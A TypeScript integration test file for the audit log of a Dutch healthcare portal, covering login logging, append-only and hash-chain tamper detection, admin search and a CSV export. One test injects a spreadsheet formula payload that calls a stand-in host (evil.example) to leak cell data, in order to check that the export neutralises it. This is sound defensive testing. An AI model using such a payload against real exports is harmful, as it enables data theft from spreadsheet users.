import { spawn } from "node:child_process";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { asc, count, desc, eq, gt } from "drizzle-orm";
import { auditEvents } from "../../db/schema";
import { audit, verifyAuditLog } from "../../app/models/audit.server";
import { verifyAuditFull } from "../../app/lib/audit-verification.server";
import { Client, DEMO_PASSWORD, loggedIn, pageText, startPortal, type TestPortal } from "../helpers/portal";

const REPO_ROOT = fileURLToPath(new URL("../..", import.meta.url));
const UA = "Regiotafel-audittest/1.0 (integratietest)";

let t: TestPortal;
let admin: Client;
beforeAll(async () => {
  t = await startPortal();
  admin = await loggedIn(t.url, "admin@regiotafel.test");
});
afterAll(() => t.close());

const db = () => t.portal.services.db;

function eventsOf(email: string) {
  return db().select().from(auditEvents).where(eq(auditEvents.userEmail, email)).orderBy(asc(auditEvents.id)).all();
}

/** The row ids of the results table, in the order shown. */
function shownRowIds(html: string): number[] {
  return [...html.matchAll(/<tr id="regel-(\d+)"/g)].map((m) => Number(m[1]));
}

/** The pager's link to the next or previous page, as a path to request. */
function pagerLink(html: string, rel: "next" | "prev"): string | undefined {
  const tag = [...html.matchAll(/<a [^>]*>/g)].map((m) => m[0]).find((a) => a.includes(`rel="${rel}"`));
  return tag?.match(/href="([^"]+)"/)?.[1].replaceAll("&amp;", "&");
}

/** RFC 4180 with ';' as separator (what the export writes for Dutch Excel). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ";") {
      record.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      record.push(cell);
      records.push(record);
      record = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell || record.length) records.push([...record, cell]);
  return records;
}

function runVerifyCli(databasePath: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn("npx", ["tsx", "server/cli/verify-audit.ts"], {
      cwd: REPO_ROOT,
      env: { ...process.env, DATABASE_PATH: databasePath },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    child.stderr.on("data", (d) => (stderr += d));
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, stdout, stderr }));
  });
}

/** Writes an audit event as if it happened at `at` (the chain stays intact: audit() links it). */
function auditAt(at: string, input: Parameters<typeof audit>[1]) {
  vi.useFakeTimers({ toFake: ["Date"] });
  try {
    vi.setSystemTime(new Date(at));
    audit(db(), input);
  } finally {
    vi.useRealTimers();
  }
}

describe("what sign-in and sign-out write to the audit log", () => {
  it("logs login, failed login and logout with IP address and user agent, and never a password", async () => {
    const email = "lid.denhaag@regiotafel.test";
    const wrongPassword = "Verkeerd-wachtwoord-4711";
    const headers = { "User-Agent": UA };
    const client = new Client(t.url, headers);
    expect((await client.post("/inloggen", { email, password: wrongPassword })).status).toBe(200);
    expect((await client.login(email, DEMO_PASSWORD)).status).toBe(302); // password, then the code
    expect((await client.post("/uitloggen", {})).status).toBe(302);
    await new Client(t.url).post("/inloggen", { email: "niemand.bekend@regiotafel.test", password: wrongPassword }, { headers });

    const events = eventsOf(email);
    expect(events.map((e) => [e.action, e.outcome])).toEqual([
      ["login.failed", "failure"],
      ["login", "success"],
      ["logout", "success"],
    ]);
    const userId = events[1].userId;
    expect(userId).toBeTruthy();
    for (const e of events) {
      expect(e.ip).toMatch(/127\.0\.0\.1$/);
      expect(e.userAgent).toBe(UA);
      expect(e.userId).toBe(userId);
    }
    expect(events[2].role).toBe("member");

    const unknown = eventsOf("niemand.bekend@regiotafel.test");
    expect(unknown).toHaveLength(1);
    expect(unknown[0]).toMatchObject({ action: "login.failed", outcome: "failure", userId: null, userAgent: UA });

    const everything = JSON.stringify(db().select().from(auditEvents).all());
    expect(everything).not.toContain(wrongPassword);
    expect(everything).not.toContain(DEMO_PASSWORD);
  });
});

describe("one audit transaction per request", () => {
  it("writes all events of a list view in one commit, before the answer, with the chain intact", async () => {
    const chair = await loggedIn(t.url, "voorzitter.denhaag@regiotafel.test");
    const before = db().select({ id: auditEvents.id }).from(auditEvents).orderBy(desc(auditEvents.id)).limit(1).get()!.id;
    const transaction = vi.spyOn(db().$client, "transaction");
    try {
      expect((await chair.get("/tafels/denhaag/inbox")).status).toBe(200);
      const written = db().select().from(auditEvents).where(gt(auditEvents.id, before)).all();
      const shown = written.filter((e) => e.action === "case.list_view");
      expect(shown.length).toBeGreaterThan(0); // one event per patient listed (NEN 7513), besides the list's own ...
      expect(written.length).toBeGreaterThan(shown.length);
      expect(transaction).toHaveBeenCalledTimes(1); // ... in one transaction
      console.log(`inbox view: ${written.length} audit events in ${transaction.mock.calls.length} transaction`);
    } finally {
      transaction.mockRestore();
    }
    expect(verifyAuditLog(db()).ok).toBe(true);
  });
});

describe("the database keeps the log append-only", () => {
  it("refuses UPDATE and DELETE on audit_events, whichever way they are sent", () => {
    const sqlite = db().$client;
    const before = db().select().from(auditEvents).orderBy(asc(auditEvents.id)).all();
    expect(before.length).toBeGreaterThan(0);
    const id = before[0].id;
    expect(() => sqlite.prepare("UPDATE audit_events SET detail = 'gewist' WHERE id = ?").run(id)).toThrow(/append-only/);
    expect(() => sqlite.prepare("DELETE FROM audit_events WHERE id = ?").run(id)).toThrow(/append-only/);
    expect(() => sqlite.prepare("DELETE FROM audit_events").run()).toThrow(/append-only/);
    expect(() => db().update(auditEvents).set({ userEmail: "x@y.nl" }).run()).toThrow(/append-only/);
    expect(() => db().delete(auditEvents).where(eq(auditEvents.id, id)).run()).toThrow(/append-only/);
    expect(db().select().from(auditEvents).orderBy(asc(auditEvents.id)).limit(before.length).all()).toEqual(before);
    expect(verifyAuditLog(db()).ok).toBe(true);
  });
});

describe("the administrator's audit search (/beheer/audit)", () => {
  it("searches by user, shows the chain status, and logs the search itself", async () => {
    const email = "lid.brabant@regiotafel.test";
    const member = await loggedIn(t.url, email);
    await member.get("/beheer/audit"); // refused: an access.denied event for this user
    const expected = eventsOf(email).map((e) => e.id).reverse();
    expect(expected.length).toBe(2);

    const response = await admin.get(`/beheer/audit?user=${encodeURIComponent(email)}`);
    expect(response.status).toBe(200);
    const html = await pageText(response);
    expect(html).toContain("keten intact");
    expect(shownRowIds(html)).toEqual(expected);
    expect(html).toContain("access.denied");
    expect(html).toContain("Tafellid"); // role in Dutch
    expect(html).toContain(`href="/beheer/audit/export?user=${encodeURIComponent(email)}"`);

    // A part of the address finds the same rows.
    expect(shownRowIds(await pageText(await admin.get("/beheer/audit?user=lid.brabant")))).toEqual(expected);
    // Action narrows further.
    expect(shownRowIds(await pageText(await admin.get(`/beheer/audit?user=lid.brabant&action=login`)))).toEqual([expected[1]]);

    const searches = eventsOf("admin@regiotafel.test").filter((e) => e.action === "audit.search");
    const last = searches.at(-1)!;
    expect(last.detail).toContain('gebruiker="lid.brabant"');
    expect(last.detail).toContain("actie=login");
    expect(last.ip).toMatch(/127\.0\.0\.1$/);
    expect(last.role).toBe("admin");
  });

  it("filters by period in whole days of Dutch time, and shows the time in Europe/Amsterdam", async () => {
    const email = "periode@regiotafel.test";
    const origin = { ip: "192.0.2.10", userAgent: UA };
    const at = {
      A: "2025-03-09T23:30:00.000Z", // 10 March 00:30 in Amsterdam
      B: "2025-03-11T22:30:00.000Z", // 11 March 23:30
      C: "2025-03-11T23:30:00.000Z", // 12 March 00:30
      D: "2025-03-09T22:30:00.000Z", //  9 March 23:30
    };
    for (const [detail, when] of Object.entries(at)) auditAt(when, { action: "test.period", attemptedEmail: email, detail, origin });
    const id = Object.fromEntries(eventsOf(email).map((e) => [e.detail!, e.id]));
    const search = async (query: string) => {
      const response = await admin.get(`/beheer/audit?user=${encodeURIComponent(email)}&${query}`);
      expect(response.status).toBe(200);
      return pageText(response);
    };

    const both = await search("from=2025-03-10&to=2025-03-11");
    expect(shownRowIds(both)).toEqual([id.B, id.A]);
    expect(both).toContain("10 maart 2025, 00:30");
    expect(both).toContain("11 maart 2025, 23:30");
    expect(shownRowIds(await search("from=2025-03-10"))).toEqual([id.C, id.B, id.A]);
    expect(shownRowIds(await search("to=2025-03-09"))).toEqual([id.D]);
    expect(shownRowIds(await search("from=2025-03-12&to=2025-03-12"))).toEqual([id.C]);
    // A date typed the Dutch way means the same day.
    expect(shownRowIds(await search("from=10-03-2025&to=11-3-2025"))).toEqual([id.B, id.A]);
    expect(verifyAuditLog(db()).ok).toBe(true);
  });

  it("pages through a long result with the pager's links, newest first, each row once, the filter kept", async () => {
    const email = "veel.regels@regiotafel.test";
    const origin = { ip: "192.0.2.11", userAgent: UA };
    for (let i = 0; i < 120; i++) audit(db(), { action: "test.paging", attemptedEmail: email, detail: `r${i}`, origin });
    const expected = eventsOf(email).map((e) => e.id).reverse();
    const seen: number[] = [];
    let html = await pageText(await admin.get(`/beheer/audit?user=${encodeURIComponent(email)}`));
    expect(html).toContain("Regel 1–50 van 120");
    expect(html).toContain('aria-label="Pagina&#x27;s: auditregels"');
    for (let pages = 1; ; pages++) {
      seen.push(...shownRowIds(html));
      const next = pagerLink(html, "next");
      if (!next) {
        expect(pages).toBe(3);
        break;
      }
      expect(next).toContain(`user=${encodeURIComponent(email)}`);
      html = await pageText(await admin.get(next));
    }
    expect(seen).toEqual(expected);
    // Back from the last page.
    const prev = pagerLink(html, "prev")!;
    expect(shownRowIds(await pageText(await admin.get(prev)))).toEqual(expected.slice(50, 100));
  });

  it("an e-mail prefix matching several addresses (any case) pages through their events merged newest first, both ways", async () => {
    const origin = { ip: "192.0.2.12", userAgent: UA };
    const addresses = ["samen.a@regiotafel.test", "SAMEN.A@regiotafel.test", "samen.b@regiotafel.test"];
    for (let i = 0; i < 90; i++) audit(db(), { action: "test.merge", attemptedEmail: addresses[i % 3], detail: `m${i}`, origin });
    const expected = (db().$client.prepare("SELECT id FROM audit_events WHERE lower(user_email) LIKE 'samen.%' ORDER BY id DESC").pluck().all() as number[]);
    expect(expected.length).toBe(90);
    const seen: number[] = [];
    let html = await pageText(await admin.get("/beheer/audit?user=Samen."));
    for (;;) {
      seen.push(...shownRowIds(html));
      const next = pagerLink(html, "next");
      if (!next) break;
      html = await pageText(await admin.get(next));
    }
    expect(seen).toEqual(expected);
    const prev = pagerLink(html, "prev")!;
    expect(shownRowIds(await pageText(await admin.get(prev)))).toEqual(expected.slice(0, 50));
  });

  it("answers invalid dates with Dutch field errors instead of a 500, and does not search", async () => {
    const response = await admin.get("/beheer/audit?from=2025-02-30&to=morgen&user=lid.brabant");
    expect(response.status).toBe(200);
    const html = await pageText(response);
    expect(html).toMatch(/<p class="field-error" id="veld-from-fout">Vul een geldige datum in/);
    expect(html).toMatch(/<p class="field-error" id="veld-to-fout">Vul een geldige datum in/);
    expect(html).not.toContain('id="veld-user-fout"');
    expect(html).toContain("Er is niet gezocht");
    expect(html).toContain('value="lid.brabant"');
    expect(shownRowIds(html)).toEqual([]);

    const reversed = await pageText(await admin.get("/beheer/audit?from=2025-03-12&to=2025-03-10"));
    expect(reversed).toContain("De einddatum ligt vóór de begindatum.");
    expect(shownRowIds(reversed)).toEqual([]);

    const exported = await admin.get("/beheer/audit/export?from=31-31-2025");
    expect(exported.status).toBe(400);
    expect(await exported.text()).toContain("Van: Vul een geldige datum in");
  });
});

describe("CSV export (/beheer/audit/export)", () => {
  const HEADER = [
    "Regel",
    "Tijdstip (Europe/Amsterdam)",
    "Tijdstip (UTC)",
    "Gebruiker",
    "Gebruiker-id",
    "Rol",
    "Organisatie-id",
    "Namens (gebruiker-id)",
    "Actie",
    "Actiecode",
    "Uitkomst",
    "Objecttype",
    "Object-id",
    "Patiënt",
    "Omschrijving",
    "IP-adres",
    "User-agent",
    "Toestemming doorbroken",
    "Hash",
  ];
  const col = (name: string) => HEADER.indexOf(name);

  it("exports the rows the page shows, with Dutch headers, and neutralises spreadsheet formulas", async () => {
    const email = "formule@regiotafel.test";
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")';
    await new Client(t.url).post("/inloggen", { email, password: "wat-dan-ook" }, { headers: { "User-Agent": hyperlink } });
    audit(db(), {
      action: "test.formula",
      attemptedEmail: email,
      objectType: "case",
      objectId: "+31612345678",
      patientId: "P-77",
      detail: "-2+3; \"aanhalingstekens\"",
      consentOverride: true,
      origin: { ip: "192.0.2.44", userAgent: "@SUM(A1:A9)" },
    });
    const ids = eventsOf(email).map((e) => e.id).reverse();
    expect(ids).toHaveLength(2);

    const page = await pageText(await admin.get(`/beheer/audit?user=${encodeURIComponent(email)}`));
    const shown = shownRowIds(page);
    expect(shown).toEqual(ids);
    const exportHref = page.match(/href="(\/beheer\/audit\/export\?[^"]+)"/)![1].replaceAll("&amp;", "&");

    const response = await admin.get(exportHref);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="auditlog-[\d_-]+\.csv"$/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM: Excel reads the accents right
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString("utf8"));
    expect(header).toEqual(HEADER);
    expect(rows.map((r) => Number(r[col("Regel")]))).toEqual(shown);
    for (const row of rows) {
      expect(row).toHaveLength(HEADER.length);
      expect(row[col("Gebruiker")]).toBe(email);
      expect(page).toContain(`<tr id="regel-${row[col("Regel")]}"><td>${row[col("Regel")]}</td>`);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
    }
    const [formulaRow, loginRow] = rows;
    expect(loginRow[col("Actie")]).toBe("Inloggen mislukt");
    expect(loginRow[col("Actiecode")]).toBe("login.failed");
    expect(loginRow[col("Uitkomst")]).toBe("mislukt");
    expect(loginRow[col("User-agent")]).toBe(`'${hyperlink}`);
    expect(formulaRow[col("Actiecode")]).toBe("test.formula");
    expect(formulaRow[col("User-agent")]).toBe("'@SUM(A1:A9)");
    expect(formulaRow[col("Object-id")]).toBe("'+31612345678");
    expect(formulaRow[col("Omschrijving")]).toBe("'-2+3; \"aanhalingstekens\"");
    expect(formulaRow[col("Patiënt")]).toBe("P-77");
    expect(formulaRow[col("Toestemming doorbroken")]).toBe("ja");
    expect(formulaRow[col("IP-adres")]).toBe("192.0.2.44");
    const stored = db().select().from(auditEvents).where(eq(auditEvents.id, ids[0])).get()!;
    expect(formulaRow[col("Tijdstip (UTC)")]).toBe(stored.at);
    expect(formulaRow[col("Hash")]).toBe(stored.hash);

    const exports = eventsOf("admin@regiotafel.test").filter((e) => e.action === "audit.export");
    expect(exports.at(-1)!.detail).toBe(`gebruiker="${email}"; 2 van 2 regels geëxporteerd`);
  });
});

describe("who may read the audit log", () => {
  it.each([
    "projectleider@regiotafel.test",
    "voorzitter.rotterdam@regiotafel.test",
    "lid.amsterdam@regiotafel.test",
    "zorgbemiddeling.vgz@regiotafel.test",
    "adviseur.cz@regiotafel.test",
    "verwijzer.parnassia@regiotafel.test",
  ])("refuses %s with 403 on the page and the export, and logs the refusal", async (email) => {
    const client = await loggedIn(t.url, email);
    const page = await client.get("/beheer/audit?user=admin");
    expect(page.status).toBe(403);
    expect(await pageText(page)).not.toContain("regel-");
    const csv = await client.get("/beheer/audit/export");
    expect(csv.status).toBe(403);
    expect(csv.headers.get("content-type")).not.toMatch(/csv/);
    const denied = eventsOf(email).filter((e) => e.action === "access.denied").map((e) => e.detail);
    expect(denied).toEqual(["audit:read /beheer/audit", "audit:read /beheer/audit/export"]);
  });

  it("sends someone who is not signed in to the login page", async () => {
    for (const pathname of ["/beheer/audit", "/beheer/audit/export"]) {
      const response = await new Client(t.url).get(pathname);
      expect(response.status).toBe(302);
      expect(response.headers.get("location")).toMatch(/^\/inloggen/);
    }
  });
});

describe("tampering with the log", () => {
  let tp: TestPortal;
  beforeAll(async () => {
    tp = await startPortal();
  });
  afterAll(() => tp.close());

  it("is found by verifyAuditLog, on the admin page, and by `npm run audit:verify` (exit 1, names the row)", async () => {
    const tdb = tp.portal.services.db;
    const tadmin = await loggedIn(tp.url, "admin@regiotafel.test");
    for (const email of ["lid.limburg@regiotafel.test", "voorzitter.gelderland@regiotafel.test", "adviseur.menzis@regiotafel.test"]) {
      await loggedIn(tp.url, email);
    }

    // Intact: the command says so and exits 0.
    const rows = tdb.select().from(auditEvents).orderBy(asc(auditEvents.id)).all();
    expect(rows.length).toBeGreaterThanOrEqual(4);
    const intactCopy = path.join(tp.dir, "intact.db");
    await tdb.$client.backup(intactCopy);
    const intact = await runVerifyCli(intactCopy);
    expect(intact.stdout).toContain(`Auditlog intact: ${rows.length} regels gecontroleerd`);
    expect(intact.stdout).toContain("PRAGMA integrity_check: ok");
    expect(intact.stdout).toContain(`Laatste regel ${rows.at(-1)!.id}, hash ${rows.at(-1)!.hash}`);
    expect(intact.code).toBe(0);

    // Someone with file access drops the triggers and rewrites one row.
    const target = rows[2];
    tdb.$client.exec("DROP TRIGGER audit_events_no_update; DROP TRIGGER audit_events_no_delete;");
    tdb.$client.prepare("UPDATE audit_events SET detail = ? WHERE id = ?").run("niets aan de hand", target.id);
    expect(tdb.select({ n: count() }).from(auditEvents).get()!.n).toBe(rows.length);

    expect(verifyAuditLog(tdb)).toEqual({ ok: false, checked: 2, brokenId: target.id, reason: "inhoud gewijzigd" });

    // The page verifies only what is new since its checkpoint; a row before it is found by the
    // full verification (nightly `npm run audit:verify`), which records the break for the page.
    expect(verifyAuditFull(tdb)).toMatchObject({ ok: false, brokenId: target.id });
    const page = await pageText(await tadmin.get("/beheer/audit"));
    expect(page).toContain(`Keten verbroken bij regel ${target.id}`);
    expect(page).not.toContain("keten intact");

    const tamperedCopy = path.join(tp.dir, "tampered.db");
    await tdb.$client.backup(tamperedCopy);
    const broken = await runVerifyCli(tamperedCopy);
    expect(broken.stdout).toContain(`Auditlog VERBROKEN bij regel ${target.id}: inhoud gewijzigd`);
    expect(broken.code).toBe(1);

    // Deleting a row instead names the row after it.
    tdb.$client.prepare("UPDATE audit_events SET detail = ? WHERE id = ?").run(target.detail, target.id);
    expect(verifyAuditLog(tdb).ok).toBe(true);
    tdb.$client.prepare("DELETE FROM audit_events WHERE id = ?").run(target.id);
    expect(verifyAuditLog(tdb)).toMatchObject({ ok: false, brokenId: rows[3].id });

    // Cutting rows off the end leaves an intact chain; the command still notices.
    const fresh = await startPortal();
    try {
      await loggedIn(fresh.url, "lid.limburg@regiotafel.test");
      await loggedIn(fresh.url, "lid.brabant@regiotafel.test");
      const fdb = fresh.portal.services.db;
      const all = fdb.select().from(auditEvents).orderBy(asc(auditEvents.id)).all();
      fdb.$client.exec("DROP TRIGGER audit_events_no_delete;");
      fdb.$client.prepare("DELETE FROM audit_events WHERE id = ?").run(all.at(-1)!.id);
      expect(verifyAuditLog(fdb).ok).toBe(true);
      const truncatedCopy = path.join(fresh.dir, "truncated.db");
      await fdb.$client.backup(truncatedCopy);
      const truncated = await runVerifyCli(truncatedCopy);
      expect(truncated.stdout).toContain(`Auditlog VERBROKEN na regel ${all.at(-2)!.id}: laatste regel(s) verwijderd`);
      expect(truncated.code).toBe(1);
    } finally {
      await fresh.close();
    }
  }, 90_000); // two runs of the command (npx + tsx start-up), slow on a busy machine

  it("the command refuses a database that does not exist (exit 2) instead of creating one", async () => {
    const missing = path.join(tp.dir, "bestaat-niet", "geen.db");
    const result = await runVerifyCli(missing);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("Database niet gevonden");
  }, 60_000);
});
